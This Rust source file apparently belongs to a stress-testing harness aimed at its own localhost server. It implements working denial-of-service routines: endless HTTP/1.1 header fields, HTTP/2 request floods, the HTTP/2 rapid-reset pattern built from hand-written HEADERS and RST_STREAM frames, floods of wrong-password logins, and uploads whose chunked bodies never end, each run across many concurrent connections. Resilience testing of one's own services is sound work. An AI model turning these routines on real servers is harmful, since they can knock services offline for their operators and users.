//! HTTP: heads without end, streams and resets without number, bodies without end.
//!
//! HTTP/2 is written by hand, for no client would do this. Source: RFC 9113, RFC 7541.

use std::sync::Arc;
use std::time::Duration;

use tokio::io::AsyncWriteExt as _;

use super::super::target::{Door, Target};
use super::super::{PAIR, basic, own_credentials, pass};

const ATTACKERS: usize = 32;
const HEADS: usize = 16;
/// More than one account may send at one time.
const UPLOADS: usize = 16;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
/// END_STREAM and END_HEADERS.
const WHOLE: u8 = 5;
/// GET, https, / and the host, by the static table.
const REQUEST: &[u8] = b"\x82\x87\x84\x41\x09localhost";
const CANCEL: &[u8] = &[0, 0, 0, 8];

/// A field that never ends.
pub(super) async fn huge_heads(target: Arc<Target>) {
    let deed = |target: Arc<Target>, attacker| async move {
        let mut stream = target.tls(Door::Web, attacker, "http/1.1").await?;
        stream.write_all(b"GET / HTTP/1.1\r\nHost: localhost\r\nX: ").await?;
        target.flood(stream, || vec![b'x'; 4096]).await
    };
    target.swarm(HEADS, deed).await;
}

/// Requests as fast as they are taken, and no answer is read but by the way.
pub(super) async fn streams(target: Arc<Target>) {
    let deed = |target: Arc<Target>, attacker| async move {
        abuse(&target, attacker, REQUEST.to_vec(), false).await
    };
    target.swarm(ATTACKERS, deed).await;
}

/// The same, each taken back at once.
pub(super) async fn resets(target: Arc<Target>) {
    let deed =
        |target: Arc<Target>, attacker| async move { abuse(&target, attacker, REQUEST.to_vec(), true).await };
    target.swarm(ATTACKERS, deed).await;
}

/// Wrong passwords whose answer nobody waits for.
pub(super) async fn broken_logins(target: Arc<Target>) {
    let deed = |target: Arc<Target>, attacker| async move {
        let credentials = basic(PAIR[0], "a wrong password");
        let value = credentials.trim().trim_start_matches("Authorization: ");
        let length = u8::try_from(value.len()).unwrap();
        let request =
            [b"\x82\x87\x04\x07/api/me\x41\x09localhost\x0f\x08", &[length][..], value.as_bytes()].concat();
        abuse(&target, attacker, request, true).await
    };
    target.swarm(ATTACKERS, deed).await;
}

/// A body that is sent a piece at a time, and has no end.
pub(super) async fn endless_uploads(target: Arc<Target>) {
    let deed = |target: Arc<Target>, attacker| async move {
        let stream = target.tls(Door::Web, attacker, "http/1.1").await?;
        let credentials = own_credentials();
        let head = format!(
            "POST /upload HTTP/1.1\r\nHost: localhost\r\n{credentials}Transfer-Encoding: chunked\r\n\
            Content-Type: text/plain\r\n\r\n"
        );
        let (reader, mut writer) = tokio::io::split(stream);
        let writing = async {
            writer.write_all(head.as_bytes()).await?;
            while writer.write_all(b"1\r\nx\r\n").await.is_ok() && writer.flush().await.is_ok() {
                pass(Duration::from_millis(100)).await;
            }
            std::future::pending::<std::io::Result<()>>().await
        };
        tokio::select! {
            () = target.last_words(reader) => Ok(()),
            ended = writing => ended,
        }
    };
    target.swarm(UPLOADS, deed).await;
}

async fn abuse(
    target: &Target,
    attacker: usize,
    request: Vec<u8>,
    is_taken_back: bool,
) -> std::io::Result<()> {
    let mut stream = target.tls(Door::Web, attacker, "h2").await?;
    stream.write_all(PREFACE).await?;
    let mut number = 1_u32;
    let frames = move || {
        let mut frames = Vec::new();
        for _ in 0..50 {
            frame(&mut frames, HEADERS, WHOLE, number, &request);
            if is_taken_back {
                frame(&mut frames, RST_STREAM, 0, number, CANCEL);
            }
            number += 2;
        }
        frames
    };
    target.flood(stream, frames).await
}

fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    out.extend_from_slice(&u32::try_from(payload.len()).unwrap().to_be_bytes()[1..]);
    out.extend_from_slice(&[kind, flags]);
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
}
